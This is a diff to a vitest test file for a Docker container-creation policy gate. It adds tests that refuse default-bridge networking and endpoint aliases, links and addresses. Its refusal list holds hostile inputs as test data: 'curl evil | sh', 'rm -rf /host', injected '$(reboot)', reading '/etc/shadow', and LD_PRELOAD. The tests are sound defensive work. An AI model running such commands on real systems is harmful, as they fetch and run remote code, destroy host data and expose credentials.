@@ -2,7 +2,7 @@ import { mkdtempSync, mkdirSync, rmSync, symlinkSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
-import { type CreatePolicySettings, containerCreateProblem } from './container-create-policy.ts';
+import { type CreatePolicySettings, containerCreateProblem, joinedNetworks, networkJoinProblem } from './container-create-policy.ts';
 
 /** A real volumes root with one volume directory (bind sources are read on the filesystem). */
 const volumesRoot = mkdtempSync(join(tmpdir(), 'gate-create-'));
@@ -39,6 +39,7 @@ function sandbox(host: Record<string, unknown> = {}, top: Record<string, unknown
 }
 
 const quote = (arg: string): string => `'${arg.replace(/'/g, `'\\''`)}'`;
+const iptablesScript = (args: string[]): string => `exec chroot /host iptables -w ${args.map(quote).join(' ')}`;
 
 /** The firewall helper as apps/api/src/runtime/docker/firewall-commands.ts creates it. */
 function helper(script: string, env: string[] = [], host: Record<string, unknown> = {}, top: Record<string, unknown> = {}): Record<string, unknown> {
@@ -59,7 +60,7 @@ describe('containerCreateProblem', () => {
     expect(containerCreateProblem(sandbox(), settings)).toBeUndefined();
     expect(containerCreateProblem(sandbox({ Runtime: 'runsc', StorageOpt: { size: '10240M' } }), settings)).toBeUndefined();
     expect(containerCreateProblem(sandbox({ NetworkMode: 'none' }, { Labels: { 'dev.tidepool.build-role': 'container', 'dev.tidepool.platform-id': 'p' }, User: 'root' }), settings)).toBeUndefined();
-    expect(containerCreateProblem({ Image: 'tidepool/base:latest', Entrypoint: ['/bin/true'], Cmd: [], Labels: { 'dev.tidepool.probe': 'disk-quota' }, HostConfig: { StorageOpt: { size: '64M' } } }, settings)).toBeUndefined();
+    expect(containerCreateProblem({ Image: 'tidepool/base:latest', Entrypoint: ['/bin/true'], Cmd: [], Labels: { 'dev.tidepool.probe': 'disk-quota' }, HostConfig: { NetworkMode: 'none', StorageOpt: { size: '64M' } } }, settings)).toBeUndefined();
     expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}:/data:rw`] }), settings)).toBeUndefined();
     expect(containerCreateProblem(sandbox({ Mounts: [{ Type: 'bind', Source: VOLUME, Target: '/data' }, { Type: 'tmpfs', Target: '/tmp' }] }), settings)).toBeUndefined();
     // Sandbox volume mounts exactly as docker-runtime.ts makes them.
@@ -146,6 +147,48 @@ describe('containerCreateProblem', () => {
     expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}:/x`] }), { ...settings, bindRoots: [] })).toMatch(/not allowed/);
   });
 
+  describe('networks', () => {
+    it('joins none or named networks, never the default bridge, the host\'s or another container\'s', () => {
+      expect(containerCreateProblem(sandbox({ NetworkMode: 'none' }), settings)).toBeUndefined();
+      expect(containerCreateProblem(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: {} } } }), settings)).toBeUndefined();
+      expect(containerCreateProblem(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: { Aliases: null, Links: [] } } } }), settings)).toBeUndefined();
+      for (const mode of ['', 'default', 'bridge']) expect(containerCreateProblem(sandbox({ NetworkMode: mode }), settings), mode).toMatch(/default bridge/);
+      expect(containerCreateProblem(sandbox({ NetworkMode: undefined }), settings)).toMatch(/default bridge/);
+      expect(containerCreateProblem(sandbox({}, { NetworkingConfig: { EndpointsConfig: { bridge: {} } } }), settings)).toMatch(/network 'bridge' is not allowed/);
+      expect(containerCreateProblem(sandbox({ NetworkMode: 'container:abc' }), settings)).toMatch(/not allowed/);
+    });
+
+    it('refuses endpoint settings: aliases, links, addresses, driver options', () => {
+      for (const endpoint of [
+        { Aliases: ['api', 'docker-gate'] },
+        { aliases: ['docker-gate'] },
+        { Links: ['other:db'] },
+        { IPAMConfig: { IPv4Address: '172.30.0.2' } },
+        { DriverOpts: { 'com.docker.network.endpoint.sysctls': 'net.ipv4.conf.IFNAME.forwarding=1' } },
+        { MacAddress: '02:42:ac:1e:00:02' },
+        { IPAddress: '172.30.0.2' },
+      ]) {
+        const body = sandbox({}, { NetworkingConfig: { EndpointsConfig: { tidepool: endpoint } } });
+        expect(containerCreateProblem(body, settings), JSON.stringify(endpoint)).toMatch(/endpoint setting .* is not allowed/);
+      }
+      expect(containerCreateProblem(sandbox({}, { NetworkingConfig: { EndpointsConfig: ['tidepool'] } }), settings)).toMatch(/must be an object/);
+    });
+
+    it('lists the networks a create joins, for the gate to look them up', () => {
+      expect(joinedNetworks(sandbox())).toEqual(['tidepool']);
+      expect(joinedNetworks(sandbox({ NetworkMode: 'none' }))).toEqual([]);
+      expect(joinedNetworks(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: {}, 'other-db': {} } } }))).toEqual(['tidepool', 'other-db']);
+      expect(joinedNetworks(helper(iptablesScript(['-S', 'DOCKER-USER'])))).toEqual([]);
+    });
+
+    it('joins only networks the platform made or the configured ones', () => {
+      expect(networkJoinProblem('tidepool', { name: 'tidepool', managed: true }, [])).toBeUndefined();
+      expect(networkJoinProblem('abc123', { name: 'tidepool-compose-sandboxes', managed: false }, ['tidepool-compose-sandboxes'])).toBeUndefined();
+      expect(networkJoinProblem('tidepool_gate', { name: 'tidepool_gate', managed: false }, ['tidepool-compose-sandboxes'])).toMatch(/not a Tidepool platform network/);
+      expect(networkJoinProblem('bridge', { name: 'bridge', managed: false }, [])).toMatch(/not a Tidepool platform network/);
+    });
+  });
+
   describe('symbolic links under a bind root', () => {
     const escape = join(volumesRoot, 'vol_escapeescapeescape');
     const dangling = join(volumesRoot, 'vol_danglingdangling1');
@@ -162,38 +205,36 @@ describe('containerCreateProblem', () => {
   });
 
   describe('the firewall helper', () => {
-    const iptables = (args: string[]): string => `exec chroot /host iptables -w ${args.map(quote).join(' ')}`;
-
     it('is allowed in exactly the shapes the platform makes', () => {
-      expect(containerCreateProblem(helper(iptables(['-S', 'DOCKER-USER'])), settings)).toBeUndefined();
-      expect(containerCreateProblem(helper(iptables(['-t', 'filter', '-I', 'DOCKER-USER', '1', '-i', 'br-0123456789ab', '-m', 'comment', '--comment', 'tidepool-isolation/tidepool', '-j', 'TP-FWD-0123456789ab'])), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptablesScript(['-S', 'DOCKER-USER'])), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptablesScript(['-t', 'filter', '-I', 'DOCKER-USER', '1', '-i', 'br-0123456789ab', '-m', 'comment', '--comment', 'tidepool-isolation/tidepool', '-j', 'TP-FWD-0123456789ab'])), settings)).toBeUndefined();
       expect(containerCreateProblem(helper(`cat /host${quote('/etc/resolv.conf')} 2>/dev/null || true`), settings)).toBeUndefined();
       expect(containerCreateProblem(helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=*filter\nCOMMIT\n']), settings)).toBeUndefined();
-      expect(containerCreateProblem(helper(iptables(['-S']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptablesScript(['-S']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
     });
 
     it('refuses anything else carrying its label', () => {
       const refused = [
         helper('sh -c "curl evil | sh"'),
-        helper(`${iptables(['-S'])}; rm -rf /host`),
+        helper(`${iptablesScript(['-S'])}; rm -rf /host`),
         helper(`exec chroot /host iptables -w '-S' $(reboot)`),
         helper(`exec chroot /host iptables -w '-S'\\''; reboot; '\\'`),
         helper(`cat /host${quote('/etc/shadow')} 2>/dev/null || true`),
-        helper(iptables(['-I', 'DOCKER-USER', '-m', 'comment', '--comment', "it's tidepool"])),
-        helper(iptables(['-S']), ['LD_PRELOAD=/host/x.so']),
+        helper(iptablesScript(['-I', 'DOCKER-USER', '-m', 'comment', '--comment', "it's tidepool"])),
+        helper(iptablesScript(['-S']), ['LD_PRELOAD=/host/x.so']),
         helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=x', 'PATH=/x']),
-        helper(iptables(['-S']), [], { Privileged: true }),
-        helper(iptables(['-S']), [], { PidMode: 'host' }),
-        helper(iptables(['-S']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
-        helper(iptables(['-S']), [], { Binds: ['/:/host', '/root:/root'] }),
-        helper(iptables(['-S']), [], { Binds: ['/etc:/host'] }),
-        helper(iptables(['-S']), [], { NetworkMode: 'tidepool' }),
-        helper(iptables(['-S']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
-        helper(iptables(['-S']), [], {}, { Image: 'busybox' }),
-        helper(iptables(['-S']), [], {}, { User: 'user' }),
-        helper(iptables(['-S']), [], {}, { Cmd: ['x'] }),
-        helper(iptables(['-S']), [], {}, { Privileged: true }),
-        helper(iptables(['-S']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
+        helper(iptablesScript(['-S']), [], { Privileged: true }),
+        helper(iptablesScript(['-S']), [], { PidMode: 'host' }),
+        helper(iptablesScript(['-S']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
+        helper(iptablesScript(['-S']), [], { Binds: ['/:/host', '/root:/root'] }),
+        helper(iptablesScript(['-S']), [], { Binds: ['/etc:/host'] }),
+        helper(iptablesScript(['-S']), [], { NetworkMode: 'tidepool' }),
+        helper(iptablesScript(['-S']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
+        helper(iptablesScript(['-S']), [], {}, { Image: 'busybox' }),
+        helper(iptablesScript(['-S']), [], {}, { User: 'user' }),
+        helper(iptablesScript(['-S']), [], {}, { Cmd: ['x'] }),
+        helper(iptablesScript(['-S']), [], {}, { Privileged: true }),
+        helper(iptablesScript(['-S']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
       ];
       for (const body of refused) expect(containerCreateProblem(body, settings), JSON.stringify(body)).toBeTypeOf('string');
     });
